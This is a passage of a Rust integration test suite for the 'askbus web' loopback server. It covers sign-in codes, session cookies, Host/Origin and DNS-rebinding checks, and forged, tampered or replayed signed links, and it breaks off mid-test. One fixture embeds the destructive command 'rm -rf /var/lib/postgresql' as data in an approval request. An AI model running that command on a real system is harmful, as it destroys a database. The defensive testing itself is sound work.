//! `askbus web` over plain HTTP, against the real daemon: sign-in codes and sessions (single
//! use, expiry, revocation, cookies scoped to one server), `--open` without a secret on the
//! opener's command line, the Host and Origin checks on pages and on the WebSocket handshake,
//! the signed-link routes (`/a/TOKEN`, `/o/TOKEN`), and the refusal to listen beyond loopback
//! without `--allow-remote`, and (as root) `askbus web` run as another uid showing that uid's
//! history only. (The page itself is tested in a browser: tests/web/.)

use crate::harness as common;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::time::Duration;

use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
use base64::Engine;
use common::{choice_request, cli_bin, Daemon};
use hmac::{Hmac, Mac};
use serde_json::{json, Value};

/// A running `askbus web` on a free loopback port.
struct Web {
    child: Child,
    stdin: ChildStdin,
    stdout: BufReader<ChildStdout>,
    port: u16,
    /// The first sign-in link it printed (a path: `/login?code=…`).
    link: String,
    key: PathBuf,
    _dir: tempfile::TempDir,
}

/// A signed-in browser: its cookie (`name=value`) and the page's directory (`/<sid>/`).
#[derive(Clone, Debug)]
struct Session {
    cookie: String,
    base: String,
}

impl Web {
    fn start(daemon: &Daemon) -> Web {
        Web::start_with(daemon, &[], &[])
    }

    fn start_with(daemon: &Daemon, args: &[&str], env: &[(&str, &std::ffi::OsStr)]) -> Web {
        let dir = tempfile::tempdir().unwrap();
        // A test that restarts askbus web passes the first one's key (and so its used links).
        let given = args
            .iter()
            .position(|a| *a == "--link-key")
            .map(|i| PathBuf::from(args[i + 1]));
        let key = given
            .clone()
            .unwrap_or_else(|| dir.path().join("links.key"));
        let mut cmd = Command::new(cli_bin());
        cmd.arg("--socket")
            .arg(&daemon.socket)
            .args(["web", "--listen", "127.0.0.1:0"]);
        if given.is_none() {
            cmd.arg("--link-key").arg(&key);
        }
        cmd.args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            // "Allow always" writes its rule here, never in the tester's own config.
            .env("XDG_CONFIG_HOME", dir.path());
        for (k, v) in env {
            cmd.env(k, v);
        }
        let mut child = cmd.spawn().expect("spawn askbus web");
        let stdin = child.stdin.take().expect("stdin");
        let mut stdout = BufReader::new(child.stdout.take().expect("stdout"));
        match next_link(&mut stdout) {
            Some((port, link)) => Web {
                child,
                stdin,
                stdout,
                port,
                link,
                key,
                _dir: dir,
            },
            None => {
                let _ = child.kill();
                let _ = child.wait();
                panic!("askbus web printed no link");
            }
        }
    }

    /// The next line of its output that contains `text`.
    fn wait_line(&mut self, text: &str) -> String {
        loop {
            let mut line = String::new();
            assert!(
                self.stdout.read_line(&mut line).expect("read stdout") > 0,
                "askbus web ended before printing {text:?}"
            );
            if line.contains(text) {
                return line;
            }
        }
    }

    /// Sends `method path` with `headers` (Host is added unless given) and `body`, and returns
    /// the status and the whole response text (only the head for a 101).
    fn request(
        &self,
        method: &str,
        path: &str,
        headers: &[(&str, &str)],
        body: &str,
    ) -> (u16, String) {
        let s = TcpStream::connect(("127.0.0.1", self.port)).expect("connect");
        let (status, text, _) = exchange(s, self.port, method, path, headers, body);
        (status, text)
    }

    fn get(&self, path: &str, headers: &[(&str, &str)]) -> (u16, String) {
        self.request("GET", path, headers, "")
    }

    fn post(&self, path: &str, headers: &[(&str, &str)]) -> (u16, String) {
        self.request("POST", path, headers, "")
    }

    fn upgrade_at(&self, path: &str, headers: &[(&str, &str)]) -> (u16, String, TcpStream) {
        let mut all = vec![
            ("Upgrade", "websocket"),
            ("Connection", "Upgrade"),
            ("Sec-WebSocket-Version", "13"),
            ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="),
        ];
        all.extend_from_slice(headers);
        let s = TcpStream::connect(("127.0.0.1", self.port)).expect("connect");
        exchange(s, self.port, "GET", path, &all, "")
    }

    /// Follows a sign-in link (a path) through both steps, as a browser does.
    fn login(&self, link: &str) -> Session {
        self.try_login(link)
            .unwrap_or_else(|text| panic!("sign-in refused: {text}"))
    }

    fn try_login(&self, link: &str) -> Result<Session, String> {
        let (status, text) = self.get(link, &[]);
        if status != 303 {
            return Err(text);
        }
        let next = header(&text, "location").expect("a location");
        let next = next.strip_prefix('.').expect("a relative location");
        let (status, text) = self.get(next, &[]);
        if status != 303 {
            return Err(text);
        }
        let set = header(&text, "set-cookie").expect("a cookie");
        let cookie = set.split(';').next().unwrap().to_owned();
        let base = next[..next.find("login").unwrap()].to_owned();
        Ok(Session { cookie, base })
    }

    /// `/<sid>/…`
    fn at(&self, s: &Session, rest: &str) -> String {
        format!("{}{rest}", s.base)
    }

    /// Opens the page's WebSocket as `s`.
    fn tab(&self, s: &Session) -> (u16, String, TcpStream) {
        let origin = format!("http://127.0.0.1:{}", self.port);
        self.upgrade_at(
            &self.at(s, "ws"),
            &[("Cookie", &s.cookie), ("Origin", &origin)],
        )
    }

    fn sign(&self, link: &Value) -> String {
        sign(&std::fs::read(&self.key).expect("the key file"), link)
    }
}

impl Drop for Web {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The next sign-in link printed: the port, and the link's path.
fn next_link(out: &mut impl BufRead) -> Option<(u16, String)> {
    loop {
        let mut line = String::new();
        if out.read_line(&mut line).ok()? == 0 {
            return None;
        }
        if let Some(rest) = line.trim().strip_prefix("http://127.0.0.1:") {
            let (port, path) = rest.split_once('/').expect("a path");
            assert!(path.starts_with("login?code="), "{line}");
            return Some((port.parse().expect("a port"), format!("/{path}")));
        }
    }
}

/// One HTTP/1.1 exchange on `s`.
fn exchange(
    mut s: TcpStream,
    port: u16,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &str,
) -> (u16, String, TcpStream) {
    s.set_read_timeout(Some(common::RECV_TIMEOUT)).unwrap();
    let mut req = format!("{method} {path} HTTP/1.1\r\n");
    let has = |name: &str| headers.iter().any(|(k, _)| k.eq_ignore_ascii_case(name));
    if !has("connection") {
        req += "Connection: close\r\n";
    }
    if !has("host") {
        req += &format!("Host: 127.0.0.1:{port}\r\n");
    }
    for (k, v) in headers {
        req += &format!("{k}: {v}\r\n");
    }
    if method == "POST" {
        req += &format!("Content-Length: {}\r\n", body.len());
    }
    req += "\r\n";
    req += body;
    s.write_all(req.as_bytes()).unwrap();
    let mut buf = Vec::new();
    let mut b = [0u8; 1];
    // Byte by byte up to the end of a 101's head, so no WebSocket frame is swallowed.
    loop {
        match s.read(&mut b) {
            Ok(0) | Err(_) => break,
            Ok(_) => buf.push(b[0]),
        }
        if response_complete(&String::from_utf8_lossy(&buf)) {
            break;
        }
    }
    let text = String::from_utf8_lossy(&buf).into_owned();
    let status = text
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("no status in {text:?}"));
    (status, text, s)
}

/// A response header's value.
fn header<'a>(text: &'a str, name: &str) -> Option<&'a str> {
    let head = text.split("\r\n\r\n").next()?;
    head.lines().find_map(|l| {
        let (k, v) = l.split_once(':')?;
        k.eq_ignore_ascii_case(name).then(|| v.trim())
    })
}

/// Whether `text` holds a whole response: the head of a 101, or a head and as much body as
/// its content-length says (a refused upgrade may leave the connection open).
fn response_complete(text: &str) -> bool {
    let Some((head, body)) = text.split_once("\r\n\r\n") else {
        return false;
    };
    if head.starts_with("HTTP/1.1 101") {
        return true;
    }
    head.lines()
        .find_map(|l| l.strip_prefix("content-length: "))
        .and_then(|n| n.trim().parse::<usize>().ok())
        .is_some_and(|n| body.len() >= n)
}

/// A link token as `askbus notify` makes one, written here from the agreed format (not with
/// askbus's own code): `v1.<b64url(payload)>.<b64url(HMAC-SHA256(key, "v1." + payload_b64))>`.
fn sign(key: &[u8], payload: &Value) -> String {
    let signed = format!("v1.{}", B64.encode(serde_json::to_vec(payload).unwrap()));
    let mut mac = <Hmac<sha2::Sha256> as Mac>::new_from_slice(key).unwrap();
    mac.update(signed.as_bytes());
    format!("{signed}.{}", B64.encode(mac.finalize().into_bytes()))
}

fn now() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

static NONCE: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(0);

/// A shell-command approval for `command`.
fn approval_request(id: &str, command: &str) -> Value {
    json!({"type": "tool-confirmation-request", "correlationId": id,
        "toolCall": {"name": "run_shell_command", "args": {"command": command}},
        "details": {"type": "exec", "title": "Confirm Shell Command", "command": command,
                    "rootCommand": command.split(' ').next().unwrap(),
                    "rootCommands": [command.split(' ').next().unwrap()]}})
}

/// A yes/no question.
fn yesno_request(id: &str, text: &str) -> Value {
    json!({"type": "ask-user-request", "correlationId": id,
        "questions": [{"question": text, "header": "Confirm", "type": "yesno"}]})
}

/// A digest no request has: links made with it are bound to nothing pending.
const NO_REQUEST: &str = "0000000000000000000000000000000000000000000000000000000000000000";

fn answer_link(id: &str, shown: &str, label: &str, exp: u64) -> Value {
    let n = NONCE.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    json!({"k": "answer", "id": id, "s": shown, "a": {"answers": {"0": label}}, "exp": exp,
           "n": format!("nonce-{n}-{}", std::process::id())})
}

fn open_link(id: &str, shown: &str, exp: u64) -> Value {
    let n = NONCE.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    json!({"k": "open", "id": id, "s": shown, "a": null, "exp": exp,
           "n": format!("open-{n}-{}", std::process::id())})
}

/// Reads one WebSocket frame (the server never masks): its opcode and payload.
fn ws_frame(s: &mut TcpStream) -> (u8, Vec<u8>) {
    let mut h = [0u8; 2];
    s.read_exact(&mut h).expect("a WebSocket frame in time");
    let len = match h[1] & 0x7f {
        126 => {
            let mut l = [0u8; 2];
            s.read_exact(&mut l).unwrap();
            u16::from_be_bytes(l) as usize
        }
        127 => {
            let mut l = [0u8; 8];
            s.read_exact(&mut l).unwrap();
            u64::from_be_bytes(l) as usize
        }
        n => n as usize,
    };
    let mut payload = vec![0u8; len];
    s.read_exact(&mut payload).unwrap();
    (h[0] & 0x0f, payload)
}

/// Reads frames until a close frame: its code and reason.
fn ws_close(s: &mut TcpStream) -> (u16, String) {
    loop {
        let (op, payload) = ws_frame(s);
        if op == 8 {
            let code = u16::from_be_bytes([payload[0], payload[1]]);
            return (code, String::from_utf8_lossy(&payload[2..]).into_owned());
        }
    }
}

#[test]
fn every_request_needs_a_session_and_the_page_own_origin() {
    let daemon = Daemon::start();
    let rt = common::rt();
    let web = Web::start(&daemon);
    let marker = "MARKER-the-question-text";
    let mut producer = rt.block_on(daemon.connect());
    let mut req = choice_request("web-1");
    req["questions"][0]["question"] = json!(marker);
    rt.block_on(producer.send(req));

    let (status, text) = web.get(&web.link, &[]);
    assert_eq!(status, 303, "{text}");
    let next = header(&text, "location").unwrap().to_owned();
    let sid_login = next.strip_prefix('.').unwrap();
    let sid = sid_login.trim_start_matches('/').split('/').next().unwrap();
    assert_eq!(sid.len(), 24, "{next}");
    // Without a session nothing is served, in the page's directory or outside it.
    for path in [
        "/".to_owned(),
        "/assets/app.js".to_owned(),
        "/ws".to_owned(),
        format!("/{sid}/"),
        format!("/{sid}/assets/app.js"),
        format!("/{sid}/ws"),
        format!("/{sid}/missing"),
        format!("/{sid}/login"),
        format!("/{sid}/login?code=0000"),
        "/missing".to_owned(),
    ] {
        let (status, text) = web.get(&path, &[]);
        assert_eq!(status, 401, "{path}: {text}");
        assert!(!text.contains(marker));
        assert!(text.contains("content-security-policy: default-src 'none'"));
    }
    // The old long-lived token in a query opens nothing.
    assert_eq!(web.get(&format!("/{sid}/?token=x"), &[]).0, 401);

    // The sign-in: a cookie (HttpOnly, SameSite=Strict, no Path: the browser scopes it to the
    // page's directory) and a redirect that drops the code.
    let (status, text) = web.get(sid_login, &[]);
    assert_eq!(status, 303, "{text}");
    let set = header(&text, "set-cookie").unwrap();
    let prefix = format!("askbus-web-{}-", web.port);
    assert!(set.starts_with(&prefix), "{set}");
    // The name tells servers apart without giving a part of the directory away.
    let name = set.split('=').next().unwrap();
    assert!(!sid.contains(&name[prefix.len()..]), "{set}");
    assert!(set.ends_with("; HttpOnly; SameSite=Strict"), "{set}");
    assert!(!set.to_ascii_lowercase().contains("path="), "{set}");
    assert_eq!(header(&text, "location"), Some("./"));
    let cookie = set.split(';').next().unwrap().to_owned();
    let code = web.link.split("code=").nth(1).unwrap();
    assert!(!cookie.contains(code));

    let (status, text) = web.get(&format!("/{sid}/"), &[("Cookie", &cookie)]);
    assert_eq!(status, 200, "{text}");
    assert!(text.contains("<script type=\"module\" src=\"assets/app.js\">"));
    assert_eq!(
        web.get(&format!("/{sid}/assets/app.js"), &[("Cookie", &cookie)])
            .0,
        200
    );
    assert_eq!(
        web.get(&format!("/{sid}/assets/nothing.js"), &[("Cookie", &cookie)])
            .0,
        404
    );
    // The session is this directory's only: the same cookie elsewhere opens nothing.
    assert_eq!(web.get("/assets/app.js", &[("Cookie", &cookie)]).0, 401);

    // A foreign Host (DNS rebinding) or Origin is refused, session or not.
    let page = format!("/{sid}/");
    let rebound = [
        ("Cookie", cookie.as_str()),
        ("Host", "rebound.example:7870"),
    ];
    assert_eq!(web.get(&page, &rebound).0, 403);
    let foreign = [
        ("Cookie", cookie.as_str()),
        ("Origin", "http://evil.example"),
    ];
    assert_eq!(web.get(&page, &foreign).0, 403);

    // The WebSocket handshake, the same way; then the genuine one is accepted.
    let ws = format!("/{sid}/ws");
    let own_origin = format!("http://127.0.0.1:{}", web.port);
    assert_eq!(web.upgrade_at(&ws, &[("Origin", &own_origin)]).0, 401);
    assert_eq!(
        web.upgrade_at(
            &ws,
            &[("Cookie", &cookie), ("Origin", "http://evil.example")]
        )
        .0,
        403
    );
    assert_eq!(
        web.upgrade_at(&ws, &[("Cookie", &cookie), ("Origin", "null")])
            .0,
        403
    );
    let (status, text, _) = web.upgrade_at(&ws, &[("Cookie", &cookie), ("Origin", &own_origin)]);
    assert_eq!(status, 101, "{text}");
}

#[test]
fn a_code_signs_in_once_and_a_new_one_comes_on_demand() {
    let daemon = Daemon::start();
    let mut web = Web::start(&daemon);
    let first = web.link.clone();
    web.login(&first);
    // Used: refused, with how to get another.
    let text = web.try_login(&first).unwrap_err();
    assert!(text.starts_with("HTTP/1.1 401"), "{text}");
    assert!(text.contains("already used"), "{text}");
    assert!(text.contains("press Enter"), "{text}");
    // A made-up code.
    let forged = first.replace("code=", "code=0");
    assert!(web.try_login(&forged).is_err());

    // Enter where it runs prints a fresh link; so does SIGUSR1.
    web.stdin.write_all(b"\n").unwrap();
    web.stdin.flush().unwrap();
    let (_, second) = next_link(&mut web.stdout).expect("a new link");
    assert_ne!(second, first);
    web.login(&second);
    // SAFETY: kill(2) on our own child.
    assert_eq!(
        unsafe { libc::kill(web.child.id() as i32, libc::SIGUSR1) },
        0
    );
    let (_, third) = next_link(&mut web.stdout).expect("a new link");
    web.login(&third);
}

#[test]
fn an_expired_code_is_refused() {
    let daemon = Daemon::start();
    let web = Web::start_with(&daemon, &["--code-ttl", "0s"], &[]);
    let text = web.try_login(&web.link).unwrap_err();
    assert!(text.starts_with("HTTP/1.1 401"), "{text}");
    assert!(text.contains("has expired"), "{text}");
}

#[test]
fn another_servers_session_is_refused() {
    let daemon = Daemon::start();
    let a = Web::start(&daemon);
    let b = Web::start(&daemon);
    let sa = a.login(&a.link);
    let sb = b.login(&b.link);
    assert_ne!(sa.base, sb.base);
    assert_ne!(
        sa.cookie.split('=').next(),
        sb.cookie.split('=').next(),
        "the cookie names differ"
    );
    // B's cookie sent to A (as a browser would, cookies ignoring ports), under A's directory,
    // alone or under A's cookie name: refused, on pages and on the WebSocket.
    let b_value = sb.cookie.split_once('=').unwrap().1;
    let a_name = sa.cookie.split_once('=').unwrap().0;
    for cookie in [sb.cookie.clone(), format!("{a_name}={b_value}")] {
        let forged = Session {
            cookie,
            base: sa.base.clone(),
        };
        assert_eq!(
            a.get(&a.at(&forged, ""), &[("Cookie", &forged.cookie)]).0,
            401
        );
        assert_eq!(a.tab(&forged).0, 401);
    }
    assert_eq!(a.get(&a.at(&sa, ""), &[("Cookie", &sa.cookie)]).0, 200);
    assert_eq!(a.tab(&sa).0, 101);
}

#[test]
fn sessions_are_revoked_by_sign_out_everywhere_and_sighup() {
    let daemon = Daemon::start();
    let mut web = Web::start(&daemon);
    let one = web.login(&web.link);
    web.stdin.write_all(b"\n").unwrap();
    let (_, link) = next_link(&mut web.stdout).unwrap();
    let two = web.login(&link);
    let (status, _, mut tab_one) = web.tab(&one);
    assert_eq!(status, 101);
    let (status, _, mut tab_two) = web.tab(&two);
    assert_eq!(status, 101);

    // Sign out one: its WebSocket closes, its cookie opens nothing; the other stays.
    let origin = format!("http://127.0.0.1:{}", web.port);
    let (status, text) = web.post(
        &web.at(&one, "logout"),
        &[("Cookie", &one.cookie), ("Origin", &origin)],
    );
    assert_eq!(status, 200, "{text}");
    assert!(header(&text, "set-cookie").unwrap().contains("Max-Age=0"));
    assert_eq!(ws_close(&mut tab_one), (1008, "signed out".into()));
    assert_eq!(
        web.get(&web.at(&one, ""), &[("Cookie", &one.cookie)]).0,
        401
    );
    assert_eq!(web.tab(&one).0, 401);
    assert_eq!(
        web.get(&web.at(&two, ""), &[("Cookie", &two.cookie)]).0,
        200
    );
    // A sign-out from another site is refused (and needs a session anyway).
    assert_eq!(
        web.post(
            &web.at(&two, "logout?all=1"),
            &[("Cookie", &two.cookie), ("Origin", "http://evil.example")]
        )
        .0,
        403
    );
    assert_eq!(web.post(&web.at(&two, "logout?all=1"), &[]).0, 401);

    // Sign out everywhere: every session ends, and unused links die too.
    web.stdin.write_all(b"\n").unwrap();
    let (_, unused) = next_link(&mut web.stdout).unwrap();
    web.stdin.write_all(b"\n").unwrap();
    let (_, link) = next_link(&mut web.stdout).unwrap();
    let three = web.login(&link);
    let (status, text) = web.post(
        &web.at(&two, "logout?all=1"),
        &[("Cookie", &two.cookie), ("Origin", &origin)],
    );
    assert_eq!(status, 200, "{text}");
    assert_eq!(ws_close(&mut tab_two), (1008, "signed out".into()));
    for s in [&two, &three] {
        assert_eq!(web.get(&web.at(s, ""), &[("Cookie", &s.cookie)]).0, 401);
        assert_eq!(web.tab(s).0, 401);
    }
    assert!(web.try_login(&unused).is_err());

    // SIGHUP: the same from the terminal (or `systemctl reload`-style), and a fresh link.
    web.stdin.write_all(b"\n").unwrap();
    let (_, link) = next_link(&mut web.stdout).unwrap();
    let four = web.login(&link);
    let (_, _, mut tab_four) = web.tab(&four);
    // SAFETY: kill(2) on our own child.
    assert_eq!(
        unsafe { libc::kill(web.child.id() as i32, libc::SIGHUP) },
        0
    );
    web.wait_line("SIGHUP: signed out every session (1)");
    let (_, fresh) = next_link(&mut web.stdout).unwrap();
    assert_eq!(ws_close(&mut tab_four), (1008, "signed out".into()));
    assert_eq!(
        web.get(&web.at(&four, ""), &[("Cookie", &four.cookie)]).0,
        401
    );
    web.login(&fresh);
}

#[test]
fn open_gives_the_opener_a_private_file_never_a_code() {
    let daemon = Daemon::start();
    let bin = tempfile::tempdir().unwrap();
    let argv = bin.path().join("argv");
    let opener = bin.path().join("xdg-open");
    // A stand-in for xdg-open: records its command line as /proc/PID/cmdline shows it to
    // every user, then exits.
    std::fs::write(
        &opener,
        format!(
            "#!/bin/sh\ncat /proc/$$/cmdline | tr '\\0' ' ' > {0}.tmp && mv {0}.tmp {0}\n",
            argv.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    std::fs::set_permissions(&opener, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!(
        "{}:{}",
        bin.path().display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let runtime = tempfile::tempdir().unwrap();
    // World-searchable, as /tmp is: the private directory askbus web makes is what protects.
    std::fs::set_permissions(runtime.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let web = Web::start_with(
        &daemon,
        &["--open"],
        &[
            ("PATH", std::ffi::OsStr::new(&path)),
            ("XDG_RUNTIME_DIR", runtime.path().as_os_str()),
        ],
    );
    let cmdline = wait_file(&argv);
    // What every local user reads in /proc/PID/cmdline: no code, no usable link.
    assert!(!cmdline.contains("code="), "{cmdline}");
    assert!(!cmdline.contains("/login"), "{cmdline}");
    let file = cmdline
        .split_whitespace()
        .find(|a| a.ends_with(".html"))
        .unwrap_or_else(|| panic!("no page in {cmdline:?}"))
        .to_owned();
    let meta = std::fs::metadata(&file).unwrap();
    assert_eq!(meta.mode() & 0o777, 0o600, "{file}");
    assert_eq!(meta.uid(), askbusd::paths::effective_uid());
    let dir_mode = std::fs::metadata(Path::new(&file).parent().unwrap())
        .unwrap()
        .mode();
    assert_eq!(dir_mode & 0o777, 0o700, "{file}");
    // Another uid on the machine cannot read it.
    if askbusd::paths::effective_uid() == 0 {
        use std::os::unix::process::CommandExt;
        let out = Command::new("cat")
            .arg(&file)
            .uid(61204)
            .gid(61204)
            .current_dir("/")
            .output()
            .unwrap();
        assert!(!out.status.success(), "another uid read the page");
        assert!(out.stdout.is_empty());
    }
    // The browser (this user) follows it: the code in it is the opener's own and works once.
    let page = std::fs::read_to_string(&file).unwrap();
    let link = page
        .split("url=")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .and_then(|u| u.strip_prefix(&format!("http://127.0.0.1:{}", web.port)))
        .unwrap_or_else(|| panic!("no link in {page}"))
        .to_owned();
    assert!(link.starts_with("/login?code="), "{page}");
    assert_ne!(link, web.link);
    web.login(&link);
    assert!(web.try_login(&link).is_err());
    web.login(&web.link);
}

/// The contents of `path` once it exists (the fake opener writes it whole, by rename).
fn wait_file(path: &Path) -> String {
    for _ in 0..6000 {
        if let Ok(text) = std::fs::read_to_string(path) {
            return text;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    panic!("{} never appeared", path.display());
}

/// Asks one choice question and waits until UIs can see it: the producer, and the request's
/// `shownSha256` (the client crate's, which proto_golden checks against digests computed
/// independently in Python), to bind links to it as `askbus notify` does.
fn ask(rt: &tokio::runtime::Runtime, daemon: &Daemon, id: &str) -> (common::Raw, String) {
    ask_this(rt, daemon, choice_request(id))
}

fn ask_this(rt: &tokio::runtime::Runtime, daemon: &Daemon, req: Value) -> (common::Raw, String) {
    let id = req["correlationId"].as_str().unwrap().to_owned();
    rt.block_on(async {
        let (mut ui, _) = daemon.ui().await;
        let mut producer = daemon.connect().await;
        producer.send(req).await;
        loop {
            let r = ui.recv().await;
            if r["correlationId"] != id.as_str() {
                continue;
            }
            let frame: askbus::protocol::ServerFrame = serde_json::from_value(r).unwrap();
            let shown = match &frame {
                askbus::protocol::ServerFrame::AskUserRequest(q) => q.shown(),
                askbus::protocol::ServerFrame::ToolConfirmationRequest(a) => a.shown(),
                _ => continue,
            };
            return (producer, askbus::protocol::shown_sha256(&shown));
        }
    })
}

#[test]
fn a_signed_answer_link_answers_once_after_a_confirmation() {
    let daemon = Daemon::start();
    let rt = common::rt();
    let mut web = Web::start(&daemon);
    let (mut producer, shown) = ask(&rt, &daemon, "link-1");
    let token = web.sign(&answer_link("link-1", &shown, "PostgreSQL", now() + 600));
    let url = format!("/a/{token}");

    // GET only shows what it would do: the question, the answer, one button.
    let (status, text) = web.get(&url, &[]);
    assert_eq!(status, 200, "{text}");
    assert!(text.contains("Which database?"), "{text}");
    assert!(text.contains("<strong>PostgreSQL</strong>"), "{text}");
    assert!(text.contains("<form method=post"), "{text}");
    assert!(text.contains("form-action 'self'"), "{text}");
    // A second GET (a link previewer, then the person) still shows it.
    assert_eq!(web.get(&url, &[]).0, 200);

    // The button (a same-origin form post), or ntfy's http action (no Origin).
    let origin = format!("http://127.0.0.1:{}", web.port);
    let (status, text) = web.post(&url, &[("Origin", &origin)]);
    assert_eq!(status, 200, "{text}");
    assert!(text.contains("Answered."), "{text}");
    let r = rt.block_on(producer.recv_type("ask-user-response"));
    assert_eq!(r["answers"], json!({"0": "PostgreSQL"}));
    assert_eq!(r["reason"], "answered");
    web.wait_line("answered link-1 from a signed link (1 so far)");

    // Replayed: refused, nothing answered (the producer already has its one answer).
    let (status, text) = web.post(&url, &[]);
    assert_eq!(status, 409, "{text}");
    assert!(text.contains("already used"), "{text}");
    assert_eq!(web.get(&url, &[]).0, 409);
}

#[test]
fn bad_expired_foreign_or_ended_links_answer_nothing() {
    let daemon = Daemon::start();
    let rt = common::rt();
    let web = Web::start(&daemon);
    let (mut producer, shown) = ask(&rt, &daemon, "link-2");
    let good = answer_link("link-2", &shown, "SQLite", now() + 600);

    // Expired.
    let expired = web.sign(&answer_link("link-2", &shown, "SQLite", now() - 1));
    let (status, text) = web.post(&format!("/a/{expired}"), &[]);
    assert_eq!(status, 410, "{text}");
    assert!(text.contains("expired"), "{text}");
    // Forged: signed with another key; tampered: another answer under the good signature.
    let forged = sign(&[9u8; 32], &good);
    let (status, text) = web.post(&format!("/a/{forged}"), &[]);
    assert_eq!(status, 403, "{text}");
    assert!(text.contains("signature"), "{text}");
    let token = web.sign(&good);
    let mut parts: Vec<String> = token.split('.').map(str::to_owned).collect();
    parts[1] = B64.encode(
        serde_json::to_vec(&answer_link("link-2", &shown, "PostgreSQL", now() + 600)).unwrap(),
    );
    assert_eq!(web.post(&format!("/a/{}", parts.join(".")), &[]).0, 403);
    assert_eq!(web.post("/a/not-a-token", &[]).0, 403);
    // An open link does not answer.
    let open = web.sign(&open_link("link-2", &shown, now() + 600));
    assert_eq!(web.post(&format!("/a/{open}"), &[]).0, 403);
    // A link for another question (not pending).
    let other = web.sign(&answer_link(
        "no-such-question",
        &shown,
        "SQLite",
        now() + 600,
    ));
    let (status, text) = web.post(&format!("/a/{other}"), &[]);
    assert_eq!(status, 409, "{text}");
    assert!(text.contains("already answered"), "{text}");
    // A foreign Host or Origin is refused before the token is looked at.
    assert_eq!(
        web.post(&format!("/a/{token}"), &[("Host", "evil.example")])
            .0,
        403
    );
    assert_eq!(
        web.post(&format!("/a/{token}"), &[("Origin", "http://evil.example")])
            .0,
        403
    );
    // None of that answered: a UI's answer is the one the producer gets.
    rt.block_on(async {
        let (mut ui, _) = daemon.ui().await;
        ui.send(common::answer("link-2", json!({"0": "SQLite"})))
            .await;
        let r = producer.recv_type("ask-user-response").await;
        assert_eq!(r["answers"], json!({"0": "SQLite"}));
    });
    // Answered elsewhere first: the good link now says so, and answers nothing.
    let (status, text) = web.get(&format!("/a/{token}"), &[]);
    assert_eq!(status, 409, "{text}");
    assert!(text.contains("already answered"), "{text}");
    let (status, text) = web.post(&format!("/a/{token}"), &[]);
    assert_eq!(status, 409, "{text}");
    assert!(text.contains("already answered"), "{text}");
}

#[test]
fn an_open_link_shows_its_one_request_view_only_and_never_signs_in() {
    let daemon = Daemon::start();
    let rt = common::rt();
    let web = Web::start(&daemon);
    let (_producer, shown) = ask(&rt, &daemon, "link 3/ü");
    // Another user's request, pending meanwhile: an Open link must never reach it.
    let (_other, _) = ask_this(
        &rt,
        &daemon,
        approval_request("rm-db", "rm -rf /var/lib/postgresql"),
    );
    let token = web.sign(&open_link("link 3/ü", &shown, now() + 600));
    let url = format!("/o/{token}");
    // As a link previewer (or the phone, twice) fetches it: the request, view only, styled.
    for _ in 0..2 {
        let (status, text) = web.get(&url, &[]);
        assert_eq!(status, 200, "{text}");
        assert!(text.contains("Which database?"), "{text}");
        assert!(text.contains("View only"), "{text}");
        assert!(text.contains("/links.css"), "{text}");
        assert!(!text.contains("postgresql"), "{text}");
        // No session, no way in: no cookie, no page directory, no code.
        assert!(header(&text, "set-cookie").is_none(), "{text}");
        assert!(header(&text, "location").is_none(), "{text}");
        assert!(!text.contains("code="), "{text}");
        assert!(!text.contains("<form"), "{text}");
    }
    // The stylesheet it names is served without a session.
    assert_eq!(web.get("/links.css", &[]).0, 200);
    // An answer link does not open.
    let answer = web.sign(&answer_link("link 3/ü", &shown, "SQLite", now() + 600));
    assert_eq!(web.get(&format!("/o/{answer}"), &[]).0, 403);
    // Once the request ends, the page says so and shows nothing of it.
    rt.block_on(async {
        let (mut ui, _) = daemon.ui().await;
        ui.send(common::answer("link 3/ü", json!({"0": "SQLite"})))
            .await;
        while ui.recv().await["type"] != "ask-user-ack" {}
    });
    let (status, text) = web.get(&url, &[]);
    assert_eq!(status, 410, "{text}");
    assert!(!text.contains("Which database?"), "{text}");
}

#[test]
fn the_page_directory_is_never_told_without_a_live_code() {
    let daemon = Daemon::start();
    let rt = common::rt();
    let web = Web::start(&daemon);
    let (_p, shown) = ask(&rt, &daemon, "sid-1");
    let open = web.sign(&open_link("sid-1", &shown, now() + 600));
    // What any local user (or a page on another port) can fetch without a code.
    let mut told = String::new();
    for path in [
        "/login".to_owned(),
        "/login?code=0".to_owned(),
        "/".to_owned(),
        "/x/login".to_owned(),
        format!("/o/{open}"),
    ] {
        let (status, text) = web.get(&path, &[]);
        assert_ne!(status, 303, "{path}: {text}");
        told.push_str(&text);
    }
    // The real directory, learned with a live code.
    let s = web.login(&web.link);
    let sid = s.base.trim_matches('/').to_owned();
    assert_eq!(sid.len(), 24, "{s:?}");
    assert!(!told.contains(&sid), "the sid leaked: {told}");
    // Nor does the cookie's name give a part of it away.
    let name = s.cookie.split('=').next().unwrap();
    assert!(!sid.contains(&name[name.len() - 8..]), "{name} / {sid}");
    // A used code tells nothing either.
    let (status, text) = web.get(&web.link, &[]);
    assert_eq!(status, 401, "{text}");
    assert!(!text.contains(&sid));
}

#[test]
fn a_used_or_stale_link_never_answers_a_new_request_with_the_same_id() {
    let daemon = Daemon::start();
    let rt = common::rt();
    let state = tempfile::tempdir().unwrap();
    let key = state.path().join("links.key");
    let key_arg = ["--link-key", key.to_str().unwrap()];
    let mut web = Web::start_with(&daemon, &key_arg, &[]);
